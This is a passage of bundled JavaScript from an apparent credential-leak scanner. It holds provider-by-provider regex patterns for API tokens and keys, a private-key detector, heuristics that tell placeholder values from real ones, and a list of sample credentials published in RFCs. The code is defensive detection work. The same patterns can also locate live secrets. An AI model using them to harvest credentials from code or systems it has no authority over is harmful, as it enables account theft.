            token('honeycomb-key', 'hc[abx][iml]k_[a-z0-9]{58,64}', 'hc'),
            mixed(named('honeycomb-key', 'honeycomb', '(?:[A-Za-z0-9]{22}|[a-f0-9]{32})')),
        ],
    },
    { name: 'posthog', patterns: [token('posthog-key', 'phx_[A-Za-z0-9_]{43,60}')] },
    { name: 'splunk', patterns: [named('splunk-token', 'splunk|hec[_. -]?token', uuid, 'splunk', 'hec')] },
    { name: 'sumologic', patterns: [named('sumologic-key', secretOf('sumo'), '[A-Za-z0-9]{64}', 'sumo')] },
    {
        name: 'pagerduty',
        patterns: [
            mixed(named('pagerduty-key', 'pagerduty|pager_duty|pd_', '(?:u\\+[\\w+-]{18}|[\\w+-]{20})')),
            named('pagerduty-key', 'pagerduty|routing[_. -]?key|integration[_. -]?key', '[a-f0-9]{32}', 'pagerduty', 'routing', 'integration'),
        ],
    },
    { name: 'opsgenie', patterns: [named('opsgenie-key', 'opsgenie|geniekey', uuid)] },
    { name: 'rollbar', patterns: [named('rollbar-token', 'rollbar', '[a-f0-9]{32}')] },
    { name: 'bugsnag', patterns: [named('bugsnag-key', 'bugsnag', '[a-f0-9]{32}')] },
    { name: 'logdna', patterns: [named('logdna-key', 'logdna|mezmo', '[a-f0-9]{32}')] },
    { name: 'logfire', patterns: [token('logfire-token', 'pylf_v\\d_[a-z]{2,10}_[A-Za-z0-9]{40,60}')] },
    { name: 'coralogix', patterns: [token('coralogix-key', 'cxt[ph]_[A-Za-z0-9]{30}', 'cxtp_', 'cxth_')] },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/payments.js


/** Payment, commerce and exchanges. Sources: the providers' pages on API keys. */
const payments = [
    { name: 'checkout', patterns: [token('checkout-key', `sk_(?:test_|sbox_)?(?:${uuid}|[a-z2-7]{26}[a-z2-7*:#+$.-]?)`, 'sk_')] },
    { name: 'lob', patterns: [token('lob-key', '(?:live|test)_[a-f0-9]{35}', 'live_', 'test_')] },
    { name: 'paddle', patterns: [token('paddle-key', 'pdl_(?:live|sdbx)_apikey_[a-z0-9]{26}_[A-Za-z0-9]{22}_[A-Za-z0-9]{3}')] },
    { name: 'xendit', patterns: [token('xendit-key', 'xnd_(?:production|development)_[A-Za-z0-9]{40,80}')] },
    { name: 'ramp', patterns: [token('ramp-secret', 'ramp_(?:sec|tok|business_tok)_[A-Za-z0-9]{40,60}')] },
    // RFC 8959: a scheme that says that a secret follows.
    { name: 'secret-token', patterns: [token('secret-token', 'secret-token:[\\w.~%!$&()*+;=:@-]{12,200}')] },
    { name: 'mercury', patterns: [token('mercury-token', 'mercury_(?:production|sandbox)_[a-z]{3}_[A-Za-z0-9]{30,60}_[a-z]{5,12}')] },
    { name: 'persona', patterns: [token('persona-key', `persona_(?:production|sandbox)_${uuid}`)] },
    {
        name: 'onfido',
        patterns: [token('onfido-token', 'api_(?:live|sandbox)(?:_ca|_us)?\\.[\\w-]{11}\\.[\\w-]{32}', 'api_live', 'api_sandbox')],
    },
    { name: 'klaviyo', patterns: [token('klaviyo-key', 'pk_(?:[A-Za-z0-9]{6}_)?[a-f0-9]{34}')] },
    { name: 'polar', patterns: [token('polar-token', 'polar_(?:oat|pat|cs|at_[uo]|rt_[uo]|whs)_[A-Za-z0-9]{32,60}')] },
    { name: 'clearbit', patterns: [token('clearbit-key', 'sk_[a-f0-9]{32}')] },
    { name: 'close', patterns: [behind(['.'], 22, token('close-key', 'api_[A-Za-z0-9]{22}\\.[A-Za-z0-9]{22}'))] },
    { name: 'samsara', patterns: [token('samsara-token', 'samsara_api_[A-Za-z0-9]{28,40}')] },
    { name: 'pinterest', patterns: [token('pinterest-token', 'pin[ac]_[A-Z0-9]{50,100}', 'pina_', 'pinc_')] },
    {
        name: 'blockfrost',
        patterns: [
            token('blockfrost-key', '(?:mainnet|preprod|preview|testnet|ipfs)[A-Za-z0-9]{32}', 'mainnet', 'preprod', 'preview', 'testnet', 'ipfs'),
        ],
    },
    { name: 'coinapi', patterns: [named('coinapi-key', 'coinapi|coin_api', uuid)] },
    { name: 'tatum', patterns: [named('tatum-key', 'tatum', uuid)] },
    { name: 'braze', patterns: [named('braze-key', 'braze', uuid)] },
    {
        name: 'sidekiq',
        patterns: [named('sidekiq-license', 'bundle_(?:enterprise|gems)__contribsys__com', '[a-f0-9]{8}:[a-f0-9]{8}', 'contribsys')],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/platforms.js

/** Clusters, secret stores and infrastructure as code. */
const platforms = [
    {
        name: 'docker',
        patterns: [
            token('docker-token', 'dckr_(?:pat|oat)_[\\w-]{27,32}'),
            token('docker-swarm-token', 'SWMTKN-1-[a-z0-9]{50}-[a-z0-9]{25}'),
            token('docker-swarm-unlock-key', 'SWMKEY-1-[A-Za-z0-9+/]{43}'),
        ],
    },
    {
        name: 'kubernetes',
        patterns: [
            // Authenticating with Bootstrap Tokens: six characters, a dot, sixteen characters.
            named('kubernetes-bootstrap-token', '\\btoken|kubeadm|bootstrap', '[a-z0-9]{6}\\.[a-z0-9]{16}', 'token', 'kubeadm', 'bootstrap'),
            needing(['-token=', '-token '], tokenAfter('kubernetes-bootstrap-token', '--(?:discovery-|tls-bootstrap-)?token[ =]', '[a-z0-9]{6}\\.[a-z0-9]{16}', '--')),
            token('openshift-token', 'sha256~[\\w-]{43}'),
            token('rancher-token', 'token-[a-z0-9]{5}:[a-z0-9]{54}'),
        ],
    },
    {
        name: 'hashicorp',
        patterns: [
            token('vault-token', 'hv[sbr]\\.[\\w-]{24,300}', 'hvs.', 'hvb.', 'hvr.'),
            mixed(behind(['s.', 'b.', 'r.'], 24, token('vault-token', '(?<![.$])[sbr]\\.[A-Za-z0-9]{24}(?![.([-])', 's.', 'b.', 'r.'))),
            tokenAfter('vault-unseal-key', 'operator unseal ', '[A-Za-z0-9+/]{43,44}={0,2}', 'unseal'),
            named('vault-unseal-key', 'unseal[_. -]?key', '[A-Za-z0-9+/]{43,44}={0,2}', 'unseal'),
            token('terraform-cloud-token', '[A-Za-z0-9]{14}\\.atlasv1\\.[\\w=-]{60,70}', '.atlasv1.'),
            named('consul-token', 'consul[_. -]?(?:http[_. -]?)?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'consul'),
            named('consul-gossip-key', '\\bencrypt', '(?:[A-Za-z0-9+/]{43}=|[A-Za-z0-9+/]{22}==)', 'encrypt'),
            named('nomad-token', 'nomad[_. -]?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'nomad'),
            named('vault-secret-id', 'secret[_. -]?id', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'secret'),
        ],
    },
    { name: 'pulumi', patterns: [token('pulumi-token', 'pul-[a-f0-9]{40}')] },
    { name: 'doppler', patterns: [token('doppler-token', 'dp\\.(?:pt|st|ct|sa|scim|audit)\\.(?:[a-z0-9_-]{2,35}\\.)?[A-Za-z0-9]{40,44}')] },
    { name: 'infisical', patterns: [behind(['.'], 32, token('infisical-token', 'st\\.[a-f0-9]{24}\\.[a-f0-9]{32}\\.[a-f0-9]{32}'))] },
    {
        name: '1password',
        patterns: [token('1password-secret-key', 'A3-[A-Z0-9]{6}-(?:[A-Z0-9]{11}|[A-Z0-9]{6}-[A-Z0-9]{5})(?:-[A-Z0-9]{5}){3}')],
    },
    {
        name: 'age',
        patterns: [token('age-private-key', 'AGE-SECRET-KEY-(?:PQ-)?1[QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L]{58,2000}', 'age-secret-key-')],
    },
    { name: 'tailscale', patterns: [token('tailscale-key', 'tskey-[a-z]{2,20}-[A-Za-z0-9_]{6,40}(?:-[A-Za-z0-9_]{6,60})?')] },
    {
        name: 'wireguard',
        patterns: [
            named('wireguard-private-key', 'private[_. -]?key|preshared[_. -]?key', '[A-Za-z0-9+/]{42}[AEIMQUYcgkosw048]=', 'private', 'preshared'),
        ],
    },
    {
        name: 'artifactory',
        patterns: [
            token('artifactory-key', 'AKCp[A-Za-z0-9]{69}'),
            token('artifactory-reference-token', 'cmVmd[A-Za-z0-9]{59}'),
            named('artifactory-key', 'artifactory|jfrog|x-jfrog-art-api', '[A-Za-z0-9]{73}', 'artifactory', 'jfrog'),
        ],
    },
    { name: 'harness', patterns: [token('harness-token', '[ps]at\\.[\\w-]{22}\\.[0-9a-f]{24}\\.[A-Za-z0-9]{20}', 'pat.', 'sat.')] },
    { name: 'prefect', patterns: [token('prefect-key', 'pn[ub]_[A-Za-z0-9]{36}', 'pnu_', 'pnb_')] },
    { name: 'octopus', patterns: [token('octopus-key', 'API-(?=[A-Z]{0,35}\\d)[A-Z0-9]{26,36}')] },
    {
        name: 'launchdarkly',
        patterns: [token('launchdarkly-key', '(?:api|sdk)-[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'api-', 'sdk-')],
    },
    {
        name: 'confluent',
        patterns: [token('confluent-secret', 'cflt[A-Za-z0-9+/]{60}'), mixed(named('confluent-secret', 'confluent', '[A-Za-z0-9+/]{64}'))],
    },
    { name: 'influxdb', patterns: [named('influxdb-token', 'influx', '[\\w-]{86}==', 'influx')] },
    {
        name: 'elastic',
        patterns: [token('elastic-key', 'essu_[A-Za-z0-9+/]{50,200}={0,2}'), token('elastic-cloud-key', 'essa_[A-Za-z0-9+/]{40,200}={0,2}')],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/private-keys.js

/** RFC 7468 labels, OpenSSH's, PGP's and cosign's; SSH2 (RFC 4716 style) has four dashes and blanks. */
const header = /-{4,5} ?BEGIN (?:[A-Z0-9]{1,20} ){0,3}PRIVATE KEY(?: BLOCK)? ?-{4,5}/g;
/** An Ed25519 key in PKCS #8, the smallest of them, has 64 characters. */
const shortestKey = 60;
/** The body of a key: in a block, indented, quoted, as a literal with `\n`, or put together from several literals. */
const pem = {
    kind: 'private-key',
    anchors: ['private key'],
    *find(text) {
        for (const match of text.matchAll(header)) {
            const bodyStart = match.index + match[0].length;
            const dashes = text.indexOf('----', bodyStart);
            const end = dashes < 0 ? text.length : dashes;
            const body = text.slice(bodyStart, end);
            if (hasKey(body))
                yield { start: match.index, end: closing(text, end) };
        }
    },
};
function hasKey(body) {
    if (/\.{3}|\*{3}|<[\w -]+>|\$\{/.test(body))
        return false;
    // Lines such as `Proc-Type: 4,ENCRYPTED`, and all that only wraps the lines.
    const key = body
        .replace(/^.{0,40}\b[A-Z][A-Za-z-]{2,20}: .*$/gm, '')
        .replace(/\\+[nr]/g, '')
        .replace(/[\s"'+,\\>|#*.;()]/g, '');
    return /^[A-Za-z0-9/=_-]*$/.test(key) && key.length >= shortestKey && new Set(key).size > 16;
}
function closing(text, dashes) {
    const footer = /-{4,5} ?END [A-Z0-9 ]{1,60}-{4,5}/y;
    footer.lastIndex = dashes;
    return dashes + (footer.exec(text)?.[0].length ?? 0);
}
/** PuTTY's own format: the body follows `Private-Lines`. */
const putty = {
    kind: 'putty-private-key',
    anchors: ['putty-user-key-file-'],
    *find(text) {
        for (const match of text.matchAll(/PuTTY-User-Key-File-\d: /g)) {
            const part = /Private-Lines: \d{1,4}\s+((?:[ \t]*[A-Za-z0-9+/=]{4,80}\s+){1,400})/.exec(text.slice(match.index, match.index + 20_000));
            if (part !== null)
                yield { start: match.index, end: match.index + part.index + part[0].trimEnd().length };
        }
    },
};
const privateKeys = [
    {
        name: 'private-key',
        patterns: [
            pem,
            putty,
            // RFC 7517 and 7518: `d` is the private part; `kty` beside it tells that this is a key: looked for last, as it may be far.
            token('jwk-private-key', '"d"\\s{0,4}:\\s{0,4}"[\\w-]{40,700}"(?:(?<="kty"[^{}]{1,3800})|(?=[^{}]{1,3000}"kty"))', '"kty"'),
            needing(['privatekey', 'private_key', 'private-key', 'private_-key'], tokenAfter('secp256k1-private-key', 'private_?-?[kK]ey["\']?\\s{0,3}[=:]\\s{0,3}["\']?', '(?:0x)?[a-fA-F0-9]{64}', 'private')),
        ],
    },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/services.js


const asana = {
    ...token('asana-token', '[012]/\\d{10,20}(?:/\\d{10,20})?:[a-f0-9]{32}', '/'),
    // Slashes are everywhere, ten digits before a colon are not.
    mayFind: ({ text, runs }) => runs.some(({ start }) => text[start - 1] === ':' && Number(text.slice(Math.max(0, start - 11), start - 1)) > 0),
};
/** Software rented by the month: payment, customers, content, identity, maps. */
const services = [
    {
        name: 'stripe',
        patterns: [
            token('stripe-key', '[sr]k_(?:live|test|prod)_[A-Za-z0-9]{16,110}', 'k_live_', 'k_test_', 'k_prod_'),
            token('stripe-webhook-secret', 'whsec_[A-Za-z0-9+/]{32,64}'),
        ],
    },
    {
        name: 'square',
        patterns: [token('square-token', 'EAAA[\\w-]{60}'), token('square-token', 'sq0[a-z]{2}p-[\\w-]{22,43}', 'sq0')],
    },
    {
        name: 'paypal',
        patterns: [token('braintree-token', 'access_token\\$(?:production|sandbox)\\$[a-z0-9]{16}\\$[a-f0-9]{32}', 'access_token$')],
    },
    { name: 'razorpay', patterns: [token('razorpay-key', 'rzp_(?:live|test)_[A-Za-z0-9]{14,24}')] },
    { name: 'flutterwave', patterns: [token('flutterwave-key', 'FLWSECK(?:_TEST)?-[a-f0-9]{12,32}(?:-X)?')] },
    { name: 'gocardless', patterns: [named('gocardless-token', 'gocardless', '(?:live|sandbox)_[\\w-]{40}')] },
    { name: 'plaid', patterns: [token('plaid-token', `access-(?:sandbox|development|production)-${uuid}`)] },
    { name: 'shippo', patterns: [token('shippo-token', 'shippo_(?:live|test)_[a-f0-9]{40}')] },
    { name: 'easypost', patterns: [token('easypost-key', 'EZ[AT]K[A-Za-z0-9]{54}', 'ezak', 'eztk')] },
    { name: 'duffel', patterns: [token('duffel-token', 'duffel_(?:test|live)_[\\w-]{43}')] },
    {
        name: 'shopify',
        patterns: [
            token('shopify-token', 'shp(?:at|ca|pa|ss|ua|tka)_[a-fA-F0-9]{32,64}', 'shpat_', 'shpca_', 'shppa_', 'shpss_', 'shpua_', 'shptka_'),
        ],
    },
    {
        name: 'airtable',
        patterns: [
            behind(['.'], 64, token('airtable-token', 'pat[A-Za-z0-9]{14}\\.[a-f0-9]{64}', 'pat')),
            mixed(named('airtable-key', 'airtable', 'key[A-Za-z0-9]{14}')),
        ],
    },
    { name: 'asana', patterns: [asana] },
    {
        name: 'dropbox',
        patterns: [
            token('dropbox-token', 'sl\\.(?:u\\.)?[\\w-]{120,1500}={0,2}'),
            tokenWithRun('dropbox-token', '[a-z0-9-]{11}A{10}[\\w=-]{43}', /A{10}/i, 'aaaaaaaaaa'),
            named('dropbox-secret', secretOf('dropbox'), '[a-z0-9]{15}', 'dropbox'),
        ],
    },
    { name: 'hubspot', patterns: [token('hubspot-token', `pat-[a-z]{2}\\d-${uuid}`)] },
    { name: 'typeform', patterns: [token('typeform-token', 'tfp_[\\w.=-]{44,59}')] },
    { name: 'contentful', patterns: [token('contentful-token', 'CFPAT-[\\w-]{43}')] },
    { name: 'clickup', patterns: [token('clickup-token', 'pk_\\d{6,12}_[A-Z0-9]{32}')] },
    { name: 'linear', patterns: [token('linear-token', 'lin_(?:api|oauth)_[A-Za-z0-9]{40,64}')] },
    { name: 'notion', patterns: [mixed(token('notion-token', 'secret_[A-Za-z0-9]{43}'))] },
    { name: 'frameio', patterns: [token('frameio-token', 'fio-u-[\\w=-]{64}')] },
    {
        name: 'figma',
        patterns: [token('figma-token', 'fig[dou][rh]?_[\\w-]{40,200}', 'fig'), named('figma-token', 'figma', `\\d{4,7}-${uuid}`)],
    },
    { name: 'adobe', patterns: [token('adobe-secret', 'p8e-[\\w-]{32}')] },
    {
        name: 'facebook',
        patterns: [
            token('facebook-token', 'EAACEdEose0cBA[A-Za-z0-9]{20,300}'),
            token('facebook-token', 'EAA[MC][A-Za-z0-9]{60,300}', 'eaam', 'eaac'),
            behind(['|'], 27, token('facebook-app-token', '\\d{13,17}\\|[\\w-]{27}', '|')),
            named('facebook-secret', secretOf('facebook|fb_|fb\\.'), '[a-f0-9]{32}', 'facebook', 'fb_', 'fb.'),
        ],
    },
    {
        name: 'twitter',
        patterns: [
            tokenWithRun('twitter-bearer-token', 'A{20,24}[A-Za-z0-9%]{60,120}', /^A+/, 'aaaaaaaaaaaaaaaaaaaa'),
            mixed(named('twitter-secret', secretOf('twitter|tweet|consumer'), '(?:[A-Za-z0-9]{50}|[A-Za-z0-9]{44,45}|\\d{6,20}-[A-Za-z0-9]{40})', 'twitter', 'tweet', 'consumer')),
        ],
    },
    {
        name: 'linkedin',
        patterns: [mixed(named('linkedin-secret', secretOf('linkedin'), '(?:[A-Za-z0-9]{16}|WPL_AP1\\.[\\w.+/=-]{16,60})', 'linkedin'))],
    },
    { name: 'instagram', patterns: [token('instagram-token', 'IG(?:QV|AA)[\\w-]{80,300}', 'igqv', 'igaa')] },
    {
        name: 'twitch',
        patterns: [
            named('twitch-secret', 'twitch', '(?:oauth:)?[a-z0-9]{30}'),
            token('twitch-stream-key', 'live_\\d{6,12}_[A-Za-z0-9]{30,40}'),
        ],
    },
    { name: 'spotify', patterns: [named('spotify-secret', secretOf('spotify'), '[a-f0-9]{32}', 'spotify')] },
    { name: 'mapbox', patterns: [token('mapbox-token', '[st]k\\.eyJ[\\w-]{40,300}\\.[\\w-]{20,100}', 'k.eyj')] },
    {
        name: 'nasa',
        patterns: [
            mixed(named('nasa-key', 'nasa', '[A-Za-z0-9]{40}')),
            mixed(tokenAfter('nasa-key', 'api\\.nasa\\.gov/[^\\s"\']{1,100}[?&]api_key=', '[A-Za-z0-9]{40}', 'nasa')),
        ],
    },
    {
        name: 'okta',
        patterns: [
            mixed(named('okta-token', 'okta|ssws|authorization', '00[\\w-]{40}')),
            mixed(tokenAfter('okta-token', '[sS][sS][wW][sS] ', '00[\\w-]{40}', 'ssws')),
        ],
    },
    { name: 'auth0', patterns: [mixed(named('auth0-secret', `${secretOf('auth0')}|client[_. -]?secret`, '[\\w-]{64}', 'auth0', 'client'))] },
    { name: 'stytch', patterns: [needing(['secret-live-', 'secret-test-'], token('stytch-secret', 'secret-(?:live|test)-[\\w=-]{32,60}'))] },
    { name: 'algolia', patterns: [named('algolia-admin-key', 'algolia', '[a-f0-9]{32}')] },
    {
        name: 'salesforce',
        patterns: [
            token('salesforce-token', '00D[A-Za-z0-9]{12,15}![\\w.]{80,260}'),
            token('salesforce-refresh-token', '5Aep861[\\w.]{80,140}'),
        ],
    },
    { name: 'sauce', patterns: [named('sauce-key', 'sauce', uuid)] },
    {
        name: 'segment',
        patterns: [
            token('segment-token', 'sgp_[A-Za-z0-9]{64}'),
            mixed(named('segment-key', secretOf('segment'), '[A-Za-z0-9]{32}', 'segment')),
        ],
    },
    { name: 'gitalk', patterns: [named('gitalk-secret', 'gitalk', '[a-f0-9]{40}')] },
    { name: 'adafruit', patterns: [token('adafruit-key', 'aio_[A-Za-z0-9]{28}')] },
    {
        name: 'blynk',
        patterns: [
            tokenAfter('blynk-token', 'blynk\\.(?:cloud|cc)/(?:external/api/)?[\\w/]{0,40}\\?token=', '[\\w-]{32}', 'blynk'),
            tokenAfter('blynk-token', 'blynk\\.(?:cloud|cc|local):?\\d{0,5}/', '[\\w-]{32}(?=/)', 'blynk'),
            named('blynk-token', 'blynk', '[\\w-]{32}'),
            token('blynk-organization-token', 'oa2-client-id_[\\w-]{32}(?::[\\w-]{32})?'),
        ],
    },
    {
        name: 'particle',
        patterns: [
            tokenAfter('particle-token', 'api\\.particle\\.io/[^\\s"\'`]{1,200}[?&]access_token=', '[a-f0-9]{40}', 'particle'),
            named('particle-token', 'particle', '[a-f0-9]{40}'),
        ],
    },
    {
        name: 'thingsboard',
        patterns: [
            tokenAfter('thingsboard-token', 'thingsboard\\.(?:cloud|io)[^\\s"\']{0,40}/api/v1/', '[A-Za-z0-9]{20}', 'thingsboard'),
            mixed(named('thingsboard-token', 'thingsboard', '[A-Za-z0-9]{20}')),
        ],
    },
    {
        name: 'kagi',
        patterns: [
            mixed(named('kagi-key', 'kagi', '[\\w-]{11}\\.[\\w-]{43}')),
            mixed(tokenAfter('kagi-session', 'kagi\\.com/[^\\s"\']{0,60}[?&]token=', '[\\w-]{11}\\.[\\w-]{43}', 'kagi')),
        ],
    },
    { name: 'pubnub', patterns: [token('pubnub-key', `sec-c-(?:${uuid}|[A-Za-z0-9]{48,64})`)] },
    {
        name: 'ifttt',
        patterns: [token('ifttt-webhook', 'maker\\.ifttt\\.com/trigger/[\\w-]{1,60}(?:/json)?/with/key/[\\w-]{20,60}', 'maker.ifttt.com/')],
    },
    { name: 'zapier', patterns: [token('zapier-webhook', 'hooks\\.zapier\\.com/hooks/catch/\\d{5,10}/\\w{5,10}', 'hooks.zapier.com/')] },
];

;// CONCATENATED MODULE: ./lib/credentials/pack/index.js















/** In order of what is told where two find the same text. */
const providers = [
    ...forges,
    ...clouds,
    ...platforms,
    ...services,
    ...payments,
    ...developerTools,
    ...monitoring,
    ...messaging,
    ...models,
    ...privateKeys,
    ...generic,
    ...commandLines,
    ...connectionStrings,
];
const byAnchor = new Map();
for (const provider of providers)
    for (const pattern of provider.patterns)
        for (const anchor of pattern.anchors)
            byAnchor.set(anchor, [...(byAnchor.get(anchor) ?? []), [provider, pattern]]);
const pack_anchors = new LiteralSet(byAnchor.keys());
/** Those one of whose patterns matches. Patterns without an anchor in the text are not tried. */
function matchingProviders(text) {
    const matching = new Set();
    const tried = new Set();
    const surveyed = survey(text);
    for (const anchor of pack_anchors.in(text, surveyed.lower)) {
        for (const [provider, pattern] of byAnchor.get(anchor) ?? []) {
            if (tried.has(pattern) || matching.has(provider))
                continue;
            tried.add(pattern);
            if (pattern.mayFind?.(surveyed) === false)
                continue;
            for (const _ of pattern.find(text)) {
                matching.add(provider);
                break;
            }
        }
    }
    return [...matching];
}


/***/ }),

/***/ 2415:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Bt: () => (/* binding */ isPlaceholderToken),
/* harmony export */   DZ: () => (/* binding */ isVariable),
/* harmony export */   IL: () => (/* binding */ isSpokenPlaceholder),
/* harmony export */   V$: () => (/* binding */ saysSample),
/* harmony export */   k7: () => (/* binding */ loginKind)
/* harmony export */ });
/* harmony import */ var _base64_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1115);
/* harmony import */ var _default_passwords_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(96);


/** Nothing drawn at random holds one of these: eight equal characters, ten in a row of the alphabet or the digits, `example` in capitals. */
const equalRun = /(.)\1{7}/;
const writtenAsSample = /EXAMPLE|example|SAMPLE|PLACEHOLDER|placeholder|REDACTED|redacted|YOUR[-_]|your[-_]|DUMMY|dummy[-_]|FAKE|XXXXX|xxxxx|\*{3}|\.{3}|<[\w -]+>/;
/**
 * Whether a text of a token's form is only a picture of one, as documentation has it. Judged by the whole of it and never by its line.
 */
function isPlaceholderToken(value) {
    return (equalRun.test(value) ||
        writtenAsSample.test(value) ||
        encodesSample(value) ||
        hasSequence(value, 10) ||
        isMadeOfSequences(lastPart(value)) ||
        new Set(value).size < 6);
}
/** A sentence in base64 in place of random bytes, behind the prefix that the form has (`whsec_…`). */
function encodesSample(value) {
    const text = (0,_base64_js__WEBPACK_IMPORTED_MODULE_1__/* .decode */ .D4)(value.slice(value.lastIndexOf('_') + 1));
    return text.includes(' ') && /^[\x20-\x7e]+$/.test(text) && writtenAsSample.test(text);
}
/** Whether a text says of itself that it is a sample. */
const saysSample = (value) => writtenAsSample.test(value);
/** Characters that follow one another in the alphabet or in the digits (`abcdefghij`, `1234567890`), the digits starting again after 9. */
function hasSequence(value, length) {
    let run = 1;
    for (let at = 1; at < value.length; at++) {
        const step = value.charCodeAt(at) - value.charCodeAt(at - 1);
        run = step === 1 || (value[at] === '0' && value[at - 1] === '9') ? run + 1 : 1;
        if (run >= length)
            return true;
    }
    return false;
}
/** Of a URL that is its own password, the part that is drawn. */
const lastPart = (value) => (/\/[A-Za-z0-9]{16,}$/.test(value) ? value.slice(value.lastIndexOf('/') + 1) : value);
/** `abc123xyz456`, `a1b2c3d4e5f6`: what fingers do that have nothing to say. */
function isMadeOfSequences(value) {
    const runs = value.match(/[a-z]+|[A-Z]+|\d+/g) ?? [];
    if (runs.join('') !== value || runs.length < 2)
        return false;
    const [letters, digits] = [value.replace(/\d/g, ''), value.replace(/\D/g, '')];
    const isRun = (text) => text.length >= 3 && hasSequence(text, text.length);
    return runs.every(isRun) || (isRun(letters) && isRun(digits));
}
const variable = /^\$[\w{(]|^[{[(<]|\$\{|\$\(|#\{|\{\{|\}\}|<[^<>]*>|^%[\w-]+%$|^%(?:\(\w+\)|\[\d\])?[sdvq]$|^@[\w.-]+@$|^__\w+__$/;
/** What instructions put where the reader's own value belongs. */
const spoken = /^(?:(?:your|my|some|any|the|insert|enter|put|add|fill|set|replace|todo|fixme|tbd|example|sample|dummy|fake|redacted|masked|hidden|placeholder|removed|omitted|not|is|will|please|use|see|to)[-_ .][-_ .\w]*\w|(?:your|insert|enter|replace|put)_?(?:api|auth|credential|db|here|in|it|key|me|my|new|own|pass|pw|secret|some|strong|the|this|token|user|valu|with|your)[\w/.+-]*|(?:change|generate)[-_ .](?:this|it|in|to|before|the|your|with|a)[-_ .][-_ .\w]*\w|(?:replace|todo|fixme|tbd|dummy|fake|redacted|masked|hidden|placeholder|removed|omitted|goes|here)|x{3,}|\*+|\.{2,}|-+|_+|none|null|nil|undefined|n\/a|empty)$/i;
/** Passwords that say so: in a URL they are what documentation has there, or what a throw-away database was given. */
const obvious = /^(?:my[-_]?)?(?:pass(?:word|wd|phrase)?\d{0,3}|p[a@]ss?w[o0]rd|pwd|pw|secret|admin|root|user|username|test|guest|changeme|change-me|example|foo|bar|baz)$/i;
/** A sentence that speaks to the reader: `you_are_not_using_k8s`, `set-this-elsewhere`. */
const sentence = /^(?:[a-z0-9']+[-_ ]){2,}[a-z0-9']+[.!]?$/i;
const addressed = /(?:^|[-_ ])(?:please|instead|not|using|used|use|see|elsewhere|override|overridden|replaced|provided|your|here)(?:$|[-_ .!])/i;
const isSpokenPlaceholder = (text) => spoken.test(text) || (sentence.test(text) && addressed.test(text));
/** Users and hosts as documentation has them, and hosts that only the machine itself reaches. */
const anyUser = /^(?:|(?:my|your|db)?[-_]?(?:user(?:name)?|usr|login|name)|me|foo|bar|alice|bob|joe|john)$/i;
/** A password that says no more than what belongs in its place. */
const anyPassword = /^(?:(?:my|your|db)?[-_]?(?:pass(?:word|wd)?|p[a@]ss?w[o0]rd|pwd|pw))$/i;
const nearHost = /^(?:localhost|127\.|0\.0\.0\.0|host$|hostname$|(?:[\w-]+\.)*(?:example|test|invalid|localhost)(?:\.(?:com|org|net))?(?:[:/?#]|$))/i;
/** What a text in a password's place is, beside a user and a host if there are any. Null for one that says that the password is elsewhere. */
function loginKind(password, user = '', host) {
    if (isVariable(password) || isSpokenPlaceholder(password) || equalRun.test(password) || password.length < 3)
        return null;
    const [isAny, isNear] = [anyUser.test(user), host === undefined || nearHost.test(host)];
    const [isDefault, isOwn] = [(0,_default_passwords_js__WEBPACK_IMPORTED_MODULE_0__/* .isDefaultPassword */ .l)(password), password === user];
    // `user:password` are two names of what belongs there; a program's own login is of no use to who must be on its machine.
    if ((user !== '' || (host !== undefined && isNear)) && isAny && anyPassword.test(password))
        return null;
    if (user !== '' && isOwn && isNear)
        return null;
    if (!isDefault && !isOwn && !obvious.test(password))
        return /^(?:.{3}|\d{4})$/.test(password) ? null : 'password';
    return isDefault && ((!isAny && !isNear) || !(isOwn || obvious.test(password))) ? 'default-login' : 'possible-login';
}
/** A reference in one of the usual forms, to be replaced before use. */
const isVariable = (text) => variable.test(text);


/***/ }),

/***/ 9560:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   H: () => (/* binding */ isPublished)
/* harmony export */ });
/** Credentials that standards and the documentation of platforms print for their readers: they open nothing. */
const published = new Set([
    // RFC 7617, section 2.
    'Aladdin:open sesame',
    // RFC 6749, sections 2.3.1 and 4.1.
    's6BhdRkqt3:gX1fBat3bV',
    'gX1fBat3bV',
    '7Fjfp0ZBr1KtDRbnfVdmIw',
    '2YotnFZFEjr1zCsicMWpAA',
    'tGzv3JOkF0XG5Qx2TlKWIA',
    'SplxlOBeZQQYbYS6WxSbIA',
    // RFC 6750, section 2.1.
    'mF_9.B5f-4.1JqM',
    // RFC 5849, section 1.2.
    'dpf43f3p2l4k3l03',
    'kd94hf93k423kf44',
    'hh5s93j4hdidpola',
    'hdhd0244k9j7ao03',
    'nnch734d00sl2jdk',
    'pfkkdhi9sl3r4s00',
]);
const isPublished = (value) => published.has(value);


/***/ }),

/***/ 2159:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   EZ: () => (/* binding */ looksRandom),
/* harmony export */   O1: () => (/* binding */ isUuid),
/* harmony export */   TO: () => (/* binding */ isNameOfSecret),
/* harmony export */   _5: () => (/* binding */ isIdentifier),
/* harmony export */   c$: () => (/* binding */ isLiteral),
/* harmony export */   jH: () => (/* binding */ isPassphrase)
/* harmony export */ });
/* harmony import */ var _base64_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(1115);
/* harmony import */ var _placeholder_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(2415);


